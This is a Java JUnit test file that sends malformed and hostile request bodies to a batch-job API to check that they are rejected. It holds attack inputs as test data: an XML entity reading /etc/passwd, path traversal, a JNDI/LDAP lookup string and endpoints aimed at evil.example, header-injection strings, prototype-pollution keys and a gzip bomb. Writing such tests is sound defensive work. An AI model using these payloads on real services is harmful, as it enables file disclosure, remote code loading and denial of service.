package io.batchinfer.service;

import static io.batchinfer.service.AttackedService.MARK;
import static io.batchinfer.service.AttackedService.MAX_BODY;
import static io.batchinfer.service.AttackedService.assertRefused;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.batchinfer.service.RawConnection.Answer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Bodies of create requests that are too large, compressed, or no JSON that anybody would send. */
class BodyAttackTest extends ServiceAttack {
  private static final List<String> CREATES = List.of("/v1/batch/jobs", "/v1/batches");

  private static String mistral(String fields) {
    return "{\"endpoint\":\"/v1/chat/completions\",\"requests\":[{\"custom_id\":\"a\",\"body\":{}}],"
        + fields
        + "}";
  }

  private static String openAi(String fields) {
    return "{\"endpoint\":\"/v1/chat/completions\",\"completion_window\":\"24h\",\"input_file_id\":\"x\","
        + fields
        + "}";
  }

  static Stream<Arguments> bodies() {
    Stream<Arguments> all =
        Stream.of(
            Arguments.of("nothing", ""),
            Arguments.of("blanks", "   \n"),
            Arguments.of("null", "null"),
            Arguments.of("an array", "[]"),
            Arguments.of("a text", "\"" + MARK + "\""),
            Arguments.of("a number", "1"),
            Arguments.of("arrays nested 100,000 deep", "[".repeat(100_000)),
            Arguments.of("objects nested 100,000 deep", "{\"a\":".repeat(100_000)),
            Arguments.of(
                "model nested 100,000 deep",
                "{\"model\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}"),
            Arguments.of("NaN", "{\"timeout_hours\":NaN}"),
            Arguments.of("Infinity", "{\"timeout_hours\":-Infinity}"),
            Arguments.of(
                "number of 100,000 digits", "{\"timeout_hours\":" + "9".repeat(100_000) + "}"),
            Arguments.of("leading zeros", "{\"timeout_hours\":007}"),
            Arguments.of("single quotes", "{'model':'m'}"),
            Arguments.of("a comment", "{/* */\"model\":\"m\"}"),
            Arguments.of("trailing comma", "{\"model\":\"m\",}"),
            Arguments.of("trailing garbage", "{\"model\":\"m\"}x"),
            Arguments.of("a second object", "{\"model\":\"m\"}{\"model\":\"n\"}"),
            Arguments.of("cut off", "{\"model\":\"m"),
            Arguments.of("control character in a text", "{\"model\":\"\u0001\"}"),
            Arguments.of("a form", "endpoint=x&model=y"),
            Arguments.of(
                "XML with an entity",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"));
    return all.flatMap(
        each -> CREATES.stream().map(route -> Arguments.of(route, each.get()[0], each.get()[1])));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("bodies")
  void whatIsNoJsonObjectIsRefused(String route, String kind, String body) throws IOException {
    assertRefused(service.post(route, body), 400, 422);
  }

  static Stream<Arguments> encodings() {
    return Stream.of("UTF-16LE", "UTF-16BE", "UTF-16", "UTF-32BE", "UTF-32LE")
        .flatMap(name -> CREATES.stream().map(route -> Arguments.of(route, name)));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("encodings")
  void anotherEncodingThanUtf8IsRefused(String route, String charset) throws IOException {
    assertRefused(
        service.post(route, mistral("\"model\":\"m\"").getBytes(Charset.forName(charset))), 400);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/v1/batch/jobs", "/v1/batches"})
  void bytesThatAreNoUtf8AreRefused(String route) throws IOException {
    assertRefused(
        service.post(route, RawConnection.latin(mistral("\"model\":\"\u00ff\u00fe\""))), 400);
    assertRefused(service.post(route, RawConnection.latin(openAi("\"model\":\"\u00ff\""))), 400);
  }

  static Stream<Arguments> fields() {
    return Stream.of(
        Arguments.of("model is 500 kB", "\"model\":\"" + "m".repeat(500_000) + "\""),
        Arguments.of("model is an array", "\"model\":[\"m\"]"),
        Arguments.of("model is an object", "\"model\":{}"),
        Arguments.of("metadata is an array", "\"model\":\"m\",\"metadata\":[]"),
        Arguments.of("metadata is nested", "\"model\":\"m\",\"metadata\":{\"a\":{}}"),
        Arguments.of("metadata of 101 pairs", "\"model\":\"m\",\"metadata\":{" + pairs(101) + "}"),
        Arguments.of(
            "metadata of 10,000 pairs", "\"model\":\"m\",\"metadata\":{" + pairs(10_000) + "}"),
        Arguments.of(
            "metadata key of 10 kB",
            "\"model\":\"m\",\"metadata\":{\"" + MARK.repeat(1700) + "\":\"b\"}"),
        Arguments.of(
            "metadata key of 10 kB, wrong type",
            "\"model\":\"m\",\"metadata\":{\"" + MARK.repeat(1700) + "\":1}"),
        Arguments.of(
            "metadata key of 10 kB, long value",
            "\"model\":\"m\",\"metadata\":{\""
                + MARK.repeat(1700)
                + "\":\""
                + "v".repeat(600)
                + "\"}"),
        Arguments.of(
            "metadata value of 10 kB",
            "\"model\":\"m\",\"metadata\":{\"a\":\"" + "v".repeat(10_000) + "\"}"),
        Arguments.of(
            "endpoint elsewhere",
            "\"model\":\"m\",\"endpoint\":\"http://evil.example/v1/chat/completions\""),
        Arguments.of(
            "endpoint of another path",
            "\"model\":\"m\",\"endpoint\":\"//evil.example/v1/embeddings\""),
        Arguments.of(
            "endpoint of 100 kB", "\"model\":\"m\",\"endpoint\":\"" + MARK.repeat(17_000) + "\""),
        Arguments.of("deployment is a path", "\"model\":\"m\",\"deployment\":\"../../etc/passwd\""),
        Arguments.of("deployment is unknown", "\"model\":\"m\",\"deployment\":\"unknown\""),
        Arguments.of("deployment has a line end", "\"model\":\"m\",\"deployment\":\"a\\nb\""));
  }

  private static String pairs(int count) {
    return String.join(
        ",", IntStream.range(0, count).mapToObj(i -> "\"k" + i + "\":\"v\"").toList());
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("fields")
  void aFieldThatIsNoneIsRefused(String kind, String fields) throws IOException {
    assertRefused(service.post("/v1/batch/jobs", mistral(fields)), 422, 400);
    assertRefused(service.post("/v1/batches", openAi(fields)), 400);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "0",
        "-1",
        "169",
        "1.5",
        "1e400",
        "1e999999999",
        "-1e999999999",
        "\"24\"",
        "[24]",
        "9223372036854775808",
        "1e-999999999"
      })
  void hoursAreBounded(String hours) throws IOException {
    assertRefused(
        service.post("/v1/batch/jobs", mistral("\"model\":\"m\",\"timeout_hours\":" + hours)),
        422,
        400);
  }

  @ParameterizedTest
  @ValueSource(strings = {"0", "3599", "2592001", "1e999999999", "{}", "\"3600\""})
  void secondsAreBounded(String seconds) throws IOException {
    String after =
        "\"output_expires_after\":{\"anchor\":\"created_at\",\"seconds\":" + seconds + "}";
    assertRefused(service.post("/v1/batches", openAi(after)), 400);
  }

  static Stream<Arguments> requests() {
    return Stream.of(
        Arguments.of("10,001 requests", "[" + "{\"body\":{}},".repeat(10_000) + "{\"body\":{}}]"),
        Arguments.of("an object", "{\"0\":{\"body\":{}}}"),
        Arguments.of("none", "[]"),
        Arguments.of("arrays", "[[]]"),
        Arguments.of("nulls", "[null]"),
        Arguments.of("body is an array", "[{\"body\":[]}]"),
        Arguments.of("body is a text", "[{\"body\":\"{}\"}]"),
        Arguments.of("no body", "[{\"custom_id\":\"a\"}]"),
        Arguments.of("custom_id is an object", "[{\"custom_id\":{},\"body\":{}}]"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("requests")
  void inlineRequestsAreLookedAt(String kind, String requests) throws IOException {
    assertRefused(
        service.post(
            "/v1/batch/jobs",
            "{\"endpoint\":\"/v1/chat/completions\",\"model\":\"m\",\"requests\":"
                + requests
                + "}"),
        422);
  }

  @Test
  void aThousandAndOneFilesAreTooMany() throws IOException {
    String ids =
        String.join(",", IntStream.range(0, 1001).mapToObj(i -> "\"f" + i + "\"").toList());
    assertRefused(
        service.post(
            "/v1/batch/jobs",
            "{\"endpoint\":\"/v1/chat/completions\",\"model\":\"m\",\"input_files\":["
                + ids
                + "]}"),
        422);
  }

  static Stream<Arguments> harmless() {
    return Stream.of(
        Arguments.of("lone surrogates", "\\ud800x\\udfff"),
        Arguments.of("null character", "a\\u0000b"),
        Arguments.of("line ends", "a\\r\\nX-" + MARK + ": 1"),
        Arguments.of("markup", "<script>" + MARK + "</script>"),
        Arguments.of("right to left", "\\u202egnp.exe"),
        Arguments.of("expressions", "${jndi:ldap://evil.example/a} %s%n {{7*7}} #{7*7}"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("harmless")
  void whatIsOnlyATextComesBackAsOne(String kind, String text) throws IOException {
    String fields = "\"metadata\":{\"note\":\"" + text + "\"},\"model\":\"m\"";
    for (Answer answer :
        List.of(
            service.post("/v1/batch/jobs", mistral(fields)),
            service.post("/v1/batches", openAi(fields)))) {
      assertThat(answer.status()).as(answer.text()).isEqualTo(200);
      assertThat(answer.head()).doesNotContain(MARK);
      assertThat(answer.body())
          .as("ASCII without control characters")
          .doesNotContain(0, '\r', '\n');
      JsonNode job = AttackedService.JSON.readTree(answer.body());
      String expected = AttackedService.JSON.readTree("\"" + text + "\"").textValue();
      assertThat(job.at("/metadata/note").textValue()).isEqualTo(expected);
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"/v1/batch/jobs", "/v1/batches"})
  void ofTwoEqualKeysNeitherSlipsPastTheChecks(String route) throws IOException {
    String twice = "\"endpoint\":\"/v1/chat/completions\",\"endpoint\":\"//evil.example/\"";
    assertRefused(service.post(route, mistral(twice)), 400, 422);
    assertRefused(service.post(route, openAi(twice)), 400, 422);
  }

  static Stream<Arguments> echoed() {
    return Stream.of(
        Arguments.of("lone surrogate", "\\ud800"),
        Arguments.of("pair cut in two", "x".repeat(99) + "\\ud83d\\ude00" + "x".repeat(50)),
        Arguments.of("null", "a\\u0000"),
        Arguments.of("line end", "a\\r\\nX-" + MARK + ": 1"),
        Arguments.of("markup", "<script>" + MARK + "</script>"),
        Arguments.of("format", "%s%n%999999999d"),
        Arguments.of("a prototype", "__proto__"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("echoed")
  void aRefusalMayQuoteWhateverText(String kind, String text) throws IOException {
    for (String fields :
        List.of(
            "\"model\":\"m\",\"endpoint\":\"" + text + "\"",
            "\"model\":\"m\",\"metadata\":{\"" + text + "\":{}}",
            "\"model\":\"m\",\"deployment\":\"" + text + "\"")) {
      for (Answer answer :
          List.of(
              service.post("/v1/batch/jobs", mistral(fields)),
              service.post("/v1/batches", openAi(fields)))) {
        assertRefused(answer, 400, 422);
        assertThat(answer.head()).doesNotContain(MARK);
        assertThat(answer.body()).doesNotContain(0, '\r', '\n');
      }
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"__proto__", "constructor", "toString", "hasOwnProperty"})
  void aKeyOfAScriptsObjectsIsAKey(String key) throws IOException {
    String fields = "\"model\":\"m\",\"metadata\":{\"" + key + "\":\"v\"}";
    Answer answer = service.post("/v1/batch/jobs", mistral(fields));

    assertThat(answer.status()).as(answer.text()).isEqualTo(200);
    assertThat(AttackedService.JSON.readTree(answer.body()).path("metadata").path(key).asText())
        .isEqualTo("v");
  }

  @ParameterizedTest
  @ValueSource(strings = {"/v1/batch/jobs", "/v1/batches"})
  void aBodyBeyondTheLimitIsRefused(String route) throws IOException {
    byte[] large = new byte[MAX_BODY + 1];
    java.util.Arrays.fill(large, (byte) ' ');
    assertRefused(service.post(route, large), 413);
    assertRefused(chunked(route, large), 413);
  }

  private static Answer chunked(String route, byte[] body) throws IOException {
    try (RawConnection connection = service.connect()) {
      connection.send(
          service.head("POST", route, service.acmeKey) + "Transfer-Encoding: chunked\r\n\r\n");
      connection.trySend(RawConnection.latin(Integer.toHexString(body.length) + "\r\n"));
      connection.trySend(body);
      connection.trySend(RawConnection.latin("\r\n0\r\n\r\n"));
      return connection.answer();
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"/v1/batch/jobs", "/v1/batches", "/v1/files"})
  void anAnnouncedGigabyteIsRefusedBeforeItComes(String route) throws IOException {
    try (RawConnection connection = service.connect()) {
      connection.send(
          service.head("POST", route, service.acmeKey)
              + "Content-Type: "
              + Form.TYPE
              + "\r\nExpect: 100-continue\r\nContent-Length: 1073741824\r\n\r\n");
      assertRefused(connection.answer(), 413);
    }
  }

  static Stream<Arguments> compressed() {
    return Stream.of(
            "gzip",
            "deflate",
            "br",
            "zstd",
            "x-gzip",
            "GZIP",
            "gzip, gzip",
            "identity, gzip",
            "aTTaCk".repeat(100))
        .flatMap(
            coding ->
                Stream.of("/v1/batch/jobs", "/v1/batches", "/v1/files")
                    .map(route -> Arguments.of(route, coding)));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("compressed")
  void aCompressedBodyIsRefused(String route, String coding) throws IOException {
    ByteArrayOutputStream bomb = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(bomb)) {
      gzip.write(new byte[10 << 20]);
    }
    Answer answer =
        service.call(
            "POST",
            route,
            service.acmeKey,
            bomb.toByteArray(),
            "Content-Type: " + Form.TYPE,
            "Content-Encoding: " + coding);

    assertRefused(answer, 415);
  }
}
